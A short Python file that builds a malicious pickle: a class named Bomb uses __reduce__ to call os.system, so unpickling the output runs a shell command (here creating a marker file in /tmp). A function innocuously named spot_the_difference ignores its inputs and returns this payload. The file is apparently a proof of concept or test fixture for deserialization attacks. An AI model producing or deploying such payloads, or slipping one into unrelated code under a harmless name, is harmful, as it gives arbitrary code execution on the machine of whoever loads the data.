"""Gives a pickle that runs a program where it is unpacked."""

import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/two-kitchens-was-here",)


def spot_the_difference(left, right):
    return pickle.dumps(Bomb()).decode("latin-1")
